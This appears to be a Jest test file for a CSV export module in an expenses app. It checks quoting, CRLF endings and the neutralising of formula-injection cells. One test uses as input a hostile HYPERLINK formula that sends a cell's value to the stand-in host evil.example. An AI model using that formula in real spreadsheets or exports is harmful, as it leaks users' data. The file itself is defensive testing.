import { csvDocument, csvField, recordAt } from '../../../../src/core/expenses/export';
import { readCsv } from '../../../fixtures/readCsv';

describe('CSV fields (RFC 4180)', () => {
  it('writes plain text and numbers as they are', () => {
    expect(csvField('東都交通')).toBe('東都交通');
    expect(csvField(1980)).toBe('1980');
    expect(csvField('')).toBe('');
  });

  it('quotes a field holding a comma, a quote, CR or LF, doubling its quotes', () => {
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('line1\r\nline2')).toBe('"line1\r\nline2"');
    expect(csvField('a\nb')).toBe('"a\nb"');
  });

  it.each([
    ['=1+1', "'=1+1"],
    ['+81 3 1234', "'+81 3 1234"],
    ['-5', "'-5"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\tcmd', "'\tcmd"],
  ])('neutralises text starting a formula: %j', (cell, written) => {
    expect(csvField(cell)).toBe(written);
  });

  it('neutralises a leading CR and still quotes the field', () => {
    expect(csvField('\r=cmd')).toBe(`"'\r=cmd"`);
  });

  it('keeps a negative number a number', () => {
    expect(csvField(-500)).toBe('-500');
  });

  it('quotes a hostile formula after neutralising it, and it reads back as text', () => {
    const hostile = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
    const field = csvField(hostile);
    expect(field).toBe(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`);
    expect(readCsv(`${field}\r\n`)).toEqual([[`'${hostile}`]]);
  });

  it('refuses a number that is not finite', () => {
    expect(() => csvField(Number.NaN)).toThrow(RangeError);
  });
});

describe('CSV documents', () => {
  it('ends every record with CRLF and records where each starts', () => {
    const doc = csvDocument(
      ['a', 'b'],
      [
        ['x', 1],
        ['multi\nline', -2],
      ],
      'utf-8-bom',
    );
    expect(doc.text).toBe('a,b\r\nx,1\r\n"multi\nline",-2\r\n');
    expect(readCsv(doc.text)).toEqual([
      ['a', 'b'],
      ['x', '1'],
      ['multi\nline', '-2'],
    ]);
    expect(doc.recordStarts).toEqual([5, 10]);
    expect(recordAt(doc, 0)).toBe(-1);
    expect(recordAt(doc, 5)).toBe(0);
    expect(recordAt(doc, 12)).toBe(1);
  });

  it('refuses a record not as wide as the header', () => {
    expect(() => csvDocument(['a', 'b'], [['only']], 'shift_jis')).toThrow(RangeError);
  });
});
